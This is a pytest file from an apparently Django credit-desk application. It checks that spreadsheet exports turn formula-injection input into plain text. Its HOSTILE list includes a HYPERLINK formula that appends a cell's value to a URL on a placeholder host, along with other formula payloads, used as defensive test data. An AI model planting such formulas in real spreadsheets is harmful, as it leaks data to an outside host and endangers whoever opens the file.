"""Every spreadsheet export neutralises formulas (issue 10 item 4, OWASP CSV injection): text starting with
= + - @, a tab or a carriage return reaches the file as text, never as a formula."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from creditdesk.accounts.disclosure import disclosure_decide, disclosure_export, disclosure_request
from creditdesk.accounts.services import access_log_record
from creditdesk.core.spreadsheets import safe_cell
from creditdesk.vehicles.tests.factories import make_customer

HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "=1+2", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_becomes_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "a=b", " =1", "", 12, -5, None, 1.5])
def test_everything_else_passes_unchanged(value):
    assert safe_cell(value) == value


def _cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(content: bytes, *expected: str) -> None:
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    for text in expected:
        assert "'" + text in values


@pytest.mark.django_db
def test_the_access_log_export_writes_a_hostile_purpose_as_text(client, api_token, persona, login, business_on):
    carol = persona("carol")
    customer = make_customer(persona("alice"), name="=1+2")
    access_log_record(actor=carol, action="unmask", subject=customer, field="mobile", purpose=HOSTILE[0])
    judy = persona("judy")
    response = client.get("/api/v1/access-log/export", HTTP_AUTHORIZATION=f"Bearer {api_token(judy)}")
    assert response.status_code == 200
    # The auditor sees the customer's name masked (=***), still text rather than a formula.
    _assert_no_formula(response.content, HOSTILE[0], "=***")
    page = login(judy).get("/accounts/access-log/export/")
    _assert_no_formula(page.content, HOSTILE[0], "=***")


@pytest.mark.django_db
def test_a_disclosure_export_writes_a_hostile_customer_name_as_text(persona, business_on):
    alice, ivan = persona("alice"), persona("ivan")
    customer = make_customer(alice, name="=1+2")
    request = disclosure_request(
        requester=alice,
        dataset="customers",
        record_ids=[customer.pk],
        fields=["name", "address"],
        recipient="@某律师事务所",
        purpose="-协助诉讼",
        legal_basis="regulator",
    )
    disclosure_decide(request=request, actor=ivan, approve=True, comment="已核实")
    request.refresh_from_db()
    _assert_no_formula(disclosure_export(request=request, actor=alice), "=1+2")


def test_every_sheet_row_in_the_code_goes_through_safe_row():
    """A new export cannot forget: every `.append(` on a worksheet in creditdesk wraps its row in `safe_row`."""
    root = Path(__file__).resolve().parents[1] / "creditdesk"
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if "openpyxl" not in text:
            continue
        for match in re.finditer(r"\b(?:sheet|ws|worksheet)\.append\(\s*(\S{0,9})", text):
            if not match.group(1).startswith("safe_row("):
                offenders.append(f"{path.relative_to(root)}: {match.group(0)}")
    assert offenders == []
